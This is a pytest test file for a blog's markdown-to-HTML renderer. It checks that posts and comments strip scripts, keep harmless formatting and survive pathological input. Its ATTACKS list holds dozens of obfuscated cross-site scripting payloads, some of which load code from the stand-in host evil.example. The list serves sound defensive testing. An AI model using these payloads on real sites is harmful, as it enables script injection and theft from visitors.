import re
import subprocess
import sys
from html.parser import HTMLParser
from pathlib import Path

import pytest

from blog.markdown import comment_html, plain_text, post_html

# Each would run a script, or call home, if any of its markup came through.
ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](java&#x73;cript:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](\x01javascript:alert(1))",
    "[click](java\tscript:alert(1))",
    "[click](vbscript:msgbox(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    '![x" onerror="alert(1)](x)',
    '![x](x "t" onerror="alert(1)")',
    "<javascript:alert(1)>",
    "[ref]\n\n[ref]: javascript:alert(1)",
    "<a href='javascript:alert(1)'>x</a>",
    '<a href="&#x6A;avascript:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    "<img src=x onerror=alert(1)>",
    "<img src=x/onerror=alert(1)>",
    "<img src='x'onerror='alert(1)'>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<body onload=alert(1)>",
    "<p onclick=alert(1)>x</p>",
    "<details open ontoggle=alert(1)>x</details>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<input onfocus=alert(1) autofocus>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<base href=//evil.example/>",
    "<style>@import '//evil.example/x.css';</style>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<template><script>alert(1)</script></template>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[><script>alert(1)</script>]]>",
    "`<script>alert(1)</script>`",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "```<img/onerror=alert(1)>\nx\n```",
    "# <svg/onload=alert(1)>",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "<a id=comments name=forms href=x>x</a>",
]
# fmt: off
SAFE_TAGS = {
    "a", "abbr", "blockquote", "br", "caption", "cite", "code", "dd", "del", "details",
    "div", "dl", "dt", "em", "figcaption", "figure", "h2", "h3", "h4", "h5", "h6", "hr",
    "img", "ins", "kbd", "li", "mark", "ol", "p", "pre", "q", "s", "small", "span",
    "strong", "sub", "summary", "sup", "table", "tbody", "td", "tfoot", "th", "thead",
    "tr", "ul",
}
SAFE_ATTRIBUTES = {
    "href", "title", "rel", "src", "alt", "width", "height", "start", "colspan",
    "rowspan", "scope", "tabindex",
}
# fmt: on


class Inventory(HTMLParser):
    def __init__(self, html):
        super().__init__()
        self.tags, self.attributes, self.addresses = set(), set(), []
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.attributes |= {name for name, _ in attrs}
        self.addresses += [value for name, value in attrs if name in {"href", "src"}]


@pytest.mark.parametrize("render", [post_html, comment_html])
@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_that_acts_comes_through(attack, render):
    found = Inventory(render(attack))

    assert found.tags <= SAFE_TAGS
    assert found.attributes <= SAFE_ATTRIBUTES
    schemes = {
        re.match(r"\s*([\w+.-]+):", address or "") for address in found.addresses
    }
    assert {match[1] for match in schemes if match} <= {"http", "https", "mailto"}


def test_post_html_renders_what_authors_write():
    source = "Some *emphasis* and `code`, ~~not~~ this.\n\n1. one\n2. two\n\n> quoted"

    assert post_html(source) == (
        "<p>Some <em>emphasis</em> and <code>code</code>, <s>not</s> this.</p>\n"
        "<ol>\n<li>one</li>\n<li>two</li>\n</ol>\n"
        "<blockquote>\n<p>quoted</p>\n</blockquote>\n"
    )


def test_post_html_renders_tables():
    assert "<th>Net</th>" in post_html("| Net | Gross |\n|---|---|\n| 1 | 2 |")


def test_post_html_keeps_harmless_html():
    assert post_html("Press <kbd>Enter</kbd>.") == "<p>Press <kbd>Enter</kbd>.</p>\n"


def test_post_html_lets_code_be_scrolled_by_keyboard():
    assert post_html("```\nx\n```") == ('<pre tabindex="0"><code>x\n</code></pre>\n')


def test_post_html_leaves_the_first_heading_to_the_title():
    assert post_html("# One\n\n## Two\n\n###### Six") == (
        "<h2>One</h2>\n<h3>Two</h3>\n<h6>Six</h6>\n"
    )


def test_post_html_keeps_headings_that_begin_below_the_title():
    assert post_html("## One\n\n### Two") == "<h2>One</h2>\n<h3>Two</h3>\n"


def test_post_html_links_without_handing_over_the_window():
    assert post_html("[a](https://example.com)") == (
        '<p><a href="https://example.com" rel="noopener">a</a></p>\n'
    )


def test_comment_html_earns_its_author_no_ranking():
    assert comment_html("[a](https://example.com)") == (
        '<p><a href="https://example.com" rel="nofollow ugc noopener">a</a></p>\n'
    )


def test_comment_html_shows_html_as_text():
    assert comment_html("<b>loud</b>") == "<p>&lt;b&gt;loud&lt;/b&gt;</p>\n"


def test_comment_html_has_no_headings_and_no_images():
    html = comment_html("# Loud\n\nLoud\n====\n\n![a](https://example.com/a.png)")

    assert Inventory(html).tags <= {"p", "a", "br"}


def test_comment_html_keeps_lines_apart():
    assert comment_html("one\ntwo") == "<p>one<br>\ntwo</p>\n"


def test_plain_text_is_what_the_paragraphs_say():
    html = "<h2>Fish</h2>\n<p>Fish &amp; chips</p><p>for  <em>two</em></p>"

    assert plain_text(html, 100) == "Fish & chips for two"


def test_plain_text_is_cut_between_words():
    assert plain_text("<p>Fish &amp; chips for two</p>", 10) == "Fish &…"
    assert plain_text("<p>Fischbrötchen</p>", 10) == "Fischbröt…"


def test_plain_text_without_paragraphs_is_all_there_is():
    assert plain_text("<ul><li>Fish</li></ul>", 10) == "Fish"


@pytest.mark.parametrize(
    "source",
    [
        "[" * 5_000,
        "*a_ " * 2_500,
        "> " * 2_000 + "x",
        "`" * 5_000 + "x",
        "![](" * 2_500,
        "<" * 5_000,
        "- " * 5_000 + "x",
        "[a](" + "(" * 2_000,
        "<div>" * 1_500,
    ],
)
def test_the_most_tangled_texts_are_rendered(source):
    html = post_html(source)

    assert html
    assert html.count("<div>") == html.count("</div>")


def test_reading_loads_nothing_that_writing_needs():
    program = (
        "import sys, django; django.setup(); import blog.views, blog.api.views;"
        "print(sorted({'markdown_it', 'nh3', 'PIL.Image'} & set(sys.modules)))"
    )

    done = subprocess.run(
        [sys.executable, "-c", program],
        check=True,
        capture_output=True,
        text=True,
        cwd=Path(__file__).parents[2],
        env={
            "DJANGO_SETTINGS_MODULE": "config.settings",
            "DATABASE_URL": "sqlite://:memory:",
        },
    )

    assert done.stdout.strip() == "[]"
